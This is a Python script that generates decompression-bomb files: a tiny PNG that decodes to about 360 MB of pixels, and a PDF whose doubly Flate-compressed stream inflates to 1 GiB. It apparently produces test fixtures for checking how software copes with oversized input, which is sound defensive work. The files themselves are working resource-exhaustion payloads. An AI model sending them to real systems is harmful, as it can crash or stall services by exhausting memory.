"""Makes the files that an attacker sends: small to send, large to open.

usage: harmful_files.py FOLDER
"""

import pathlib
import struct
import sys
import zlib

folder = pathlib.Path(sys.argv[1])
MIB = 1 << 20


def packed_zeros(size):
    pack = zlib.compressobj(9)
    parts = [pack.compress(bytes(MIB)) for _ in range(size // MIB)]
    return b''.join(parts) + pack.flush()


def chunk(kind, content):
    body = kind + content
    return struct.pack('>I', len(content)) + body + struct.pack('>I', zlib.crc32(body))


def png(width, height, depth):
    """All black, red green and blue."""
    row = 1 + width * 3 * depth // 8
    header = struct.pack('>IIBBBBB', width, height, depth, 2, 0, 0, 0)
    whole = row * height
    pixels = zlib.compressobj(9)
    parts = []
    for _ in range(whole // MIB):
        parts.append(pixels.compress(bytes(MIB)))
    parts.append(pixels.compress(bytes(whole % MIB)) + pixels.flush())
    return (b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', header) + chunk(b'IDAT', b''.join(parts)) +
            chunk(b'IEND', b''))


def pdf(stream, filters):
    objects = [b'<< /Type /Catalog /Pages 2 0 R >>', b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
               b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>',
               b'<< /Length %d /Filter %s >>\nstream\n%s\nendstream' % (len(stream), filters, stream)]
    out, places = b'%PDF-1.4\n', []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b'%d 0 obj\n%s\nendobj\n' % (number, content)
    start = len(out)
    out += b'xref\n0 %d\n0000000000 65535 f \n' % (len(objects) + 1)
    out += b''.join(b'%010d 00000 n \n' % place for place in places)
    return out + b'trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n' % (
        len(objects) + 1, start)


# 360 MB of pixels each; of 8 bits a full request of them would still be 180 MB a file.
(folder / 'wide.png').write_bytes(png(7746, 7746, 16))
(folder / 'deep.pdf').write_bytes(
    pdf(zlib.compress(packed_zeros(1024 * MIB), 9), b'[/FlateDecode /FlateDecode]'))
